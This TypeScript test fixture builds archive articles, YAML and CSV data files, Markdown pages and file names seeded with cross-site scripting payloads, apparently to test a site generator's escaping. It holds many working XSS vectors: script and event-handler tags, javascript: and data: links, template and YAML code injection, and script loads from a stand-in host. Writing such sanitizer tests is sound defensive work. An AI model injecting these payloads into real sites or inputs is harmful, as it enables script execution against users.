const RUN = "window.pwned=true";
const AWAY = "https://elsewhere.example";
const IMG = `<img src=x onerror=${RUN}>`;
const SCRIPT = `<script>${RUN}</script>`;

/** A word of every text, so that a search finds them all. */
export const WORD = "skelterquay";

const BODY = `The ${WORD} of Lannoth was closed on Monday, the board said.`;

/** A text in plain characters, with a day. */
const plain = (harm: string): string =>
  `LANNOTH, Feb 10, 2021 (SNW) -- ${BODY}\n\n${harm}\n\nIt is open again, ${WORD} keepers said.\n`;

/** A text in Markdown, without a day. */
const marked = (harm: string): string =>
  `# The ${WORD} of one who means harm\n\n${BODY}\n\n${harm}\n`;

/** A text with front matter. */
const fronted = (...lines: readonly string[]): string =>
  `---\n${lines.join("\n")}\n---\n${BODY}\n\nNobody was hurt.\n`;

const headed = (headline: string): string => `${headline}\n\nFeb. 12, 2021 -- ${BODY}\n`;

/** Texts and steering files that mean harm, one shape each, by their path. What runs says so in `window.pwned`, and what fetches asks a host of its own. */
export const HARM: Readonly<Record<string, string>> = {
  "archive.yml": `title: 'The ${IMG} Papers'\ndescription: '"><svg onload=${RUN}>'\nreport: true\nrights: '${SCRIPT}'\ncontact: '"><img src=${AWAY}/contact>'\n`,
  "topics.yml": `- id: skelter\n  label: '</a>${IMG}'\n  phrases: [${WORD}]\n`,
  "people.yml": `- id: quill\n  name: 'Ada "onmouseover=${RUN}" Quill'\n  names: [Ada Quill]\n`,
  "sources.yml": `- id: harm-wire\n  kind: agency\n  name: 'Harm <iframe src="javascript:top.pwned=true"> Wire'\n  names: [Harm Wire]\n`,
  "corrections.csv": `path,field,value,reason\ncorrected.txt,headline,"</title>${SCRIPT}","<svg onload=${RUN}>"\n`,

  "script.txt": plain(SCRIPT),
  "script-from-elsewhere.txt": plain(`<script src="${AWAY}/a.js"></script>`),
  "handlers.txt": plain(
    `${IMG} <body onload=${RUN}> <a href=# onclick=${RUN} onmouseover=${RUN}>here</a> <input autofocus onfocus=${RUN}>`,
  ),
  "svg.txt": plain(
    `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x></svg><math href="javascript:${RUN}">`,
  ),
  "frames.txt": plain(
    `<iframe srcdoc="<script>top.pwned=true</script>"></iframe><object data="${AWAY}/o"></object><embed src="${AWAY}/e">`,
  ),
  "fetches.txt": plain(
    `<img src="${AWAY}/i"><link rel=stylesheet href="${AWAY}/c"><video poster="${AWAY}/v"><style>@import "${AWAY}/s";</style>`,
  ),
  "refresh.txt": plain(
    `<meta http-equiv=refresh content="0; url=javascript:${RUN}"><base href="${AWAY}/">`,
  ),
  "form.txt": plain(
    `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">${WORD}</button></form>`,
  ),
  "out-of-elements.txt": plain(
    `</p></div></article></main></body></html>${SCRIPT} </textarea></noscript></style></script>${IMG}`,
  ),
  "out-of-attributes.txt": plain(
    `"><svg onload=${RUN}> '><svg onload=${RUN}> " onmouseover=${RUN} x=" ' autofocus onfocus=${RUN} \``,
  ),
  "out-of-json.txt": plain(
    `","x":"</script>${SCRIPT}<!--\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  ),
  "out-of-xml.txt": plain(
    `]]></summary><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script><![CDATA[ <?xml-stylesheet href="${AWAY}/x"?>`,
  ),
  "entities.txt": plain(
    `&lt;img src=x onerror=${RUN}&gt; &amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt; &#60;svg onload=${RUN}&#62;`,
  ),
  "half-a-tag.txt": plain(`<img src=x onerror=${RUN}//`),
  "mutation.txt": plain(
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMG}">`,
  ),
  "template.txt": plain(`{{ constructor.constructor('${RUN}')() }} <%= ${RUN} %> \${${RUN}}`),
  "odd-characters.txt": plain(
    `<\u0000script>${RUN}</script> ＜script＞${RUN}＜/script＞ \u2028${SCRIPT}`,
  ),
  "addresses.txt": plain(
    `See javascript:${RUN} or data:text/html,${SCRIPT} or //elsewhere.example/a`,
  ),
  "people.txt": plain("Ada Quill said so."),

  "headline.txt": headed(`${IMG} the ${WORD} said`),
  "title.txt": headed(`</title>${SCRIPT} the ${WORD} said`),
  "byline.txt": `The ${WORD} closes\nBy Ada Quill and "><svg onload=${RUN}>\n\nFeb. 11, 2021 -- ${BODY}\n`,
  "source.txt": `${BODY}\n\nSource: Harm Wire <img src=x onerror=${RUN}>\nDate: 2021-02-13\n`,
  "corrected.txt": plain("Its headline is somebody else's."),
  "fields.md": fronted(
    `title: '"><script>${RUN}</script>'`,
    `byline: "Ada <img src=x onerror=${RUN}>"`,
    `source: ["Harm Wire", "'\\"><svg onload=${RUN}>"]`,
    `topics: ["</a>${IMG}", "'><iframe src=javascript:top.pwned=true>"]`,
    `tags: ["javascript:${RUN}", "../../${IMG}"]`,
    `place: "</span>${IMG}"`,
    "language: '\"><svg>'",
    "date: 2021-02-14",
  ),
  "keys.md": fronted("title: Keys", `"</code>${IMG}": a`, `date: "<svg onload=${RUN}>"`),
  "engine.md": `---js\n{ title: (globalThis.pwned = true) }\n---\n${BODY}\n`,
  "tag.md": fronted(`title: !!js/function 'function () { ${RUN} }'`, "date: 2021-02-15"),

  "html.md": marked(`${SCRIPT}\n\n<div onclick=${RUN}>\n\na ${IMG} b\n\n<!-- --!>${IMG} -->`),
  "links.md": marked(
    [
      `[one](javascript:${RUN})`,
      `[two](JaVaScRiPt:${RUN})`,
      `[three](<java\tscript:${RUN}>)`,
      `[four](&#106;avascript&colon;${RUN})`,
      `[five](javascript&#x3a;${RUN})`,
      `[six](<\u0001javascript:${RUN}>)`,
      `[seven](data:text/html,<script>opener.pwned=true</script>)`,
      `[eight](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9dHJ1ZTwvc2NyaXB0Pg==)`,
      `[nine](vbscript:${RUN})`,
      `[ten](%6aavascript:${RUN})`,
      `[eleven](&Tab;javascript:${RUN})`,
      `[twelve](blob:${AWAY}/a)`,
      `<javascript:${RUN}>`,
      `[thirteen][ref]`,
      `![fourteen](javascript:${RUN})`,
      `[![fifteen](data:image/svg+xml,<svg onload=${RUN}>)](javascript:${RUN})`,
      `\n[ref]: javascript:${RUN} "${WORD}"`,
    ].join(" "),
  ),
  "link-attributes.md": marked(
    `[a](https://example.org/"onmouseover="${RUN} "b" onclick="${RUN}") [b](https://example.org/ '"><svg onload=${RUN}>') ![c" onerror="${RUN}](${AWAY}/c)`,
  ),
  "pictures.md": marked(`![a picture](${AWAY}/a.png) <img srcset="${AWAY}/b 1x"> ![${IMG}](x)`),
  "code.md": marked(`\`\`\`js"><script>${RUN}</script>\n${SCRIPT}\n\`\`\`\n\n\`${IMG}\``),
  "table.md": marked(`| a ${IMG} | b |\n|:--|--:|\n| ${SCRIPT} | [c](javascript:${RUN}) |`),
  "headings.md": marked(`## ${IMG} {#x onclick=${RUN}}\n\n> ${SCRIPT}\n\n1. ${IMG}`),
  [`"><img src=x onerror=${RUN}>.txt`]: plain("Its file has a name."),
  [`' onmouseover='${RUN}'/<script>${RUN}<·script>.md`]: marked("Its folder has one too."),
  [`javascript:${RUN}/a%2f..%2f&lt;svg onload=${RUN}&gt;.txt`]: plain("So has this."),
  [`</title><svg onload=${RUN}>.csv`]: "no text\n",
};
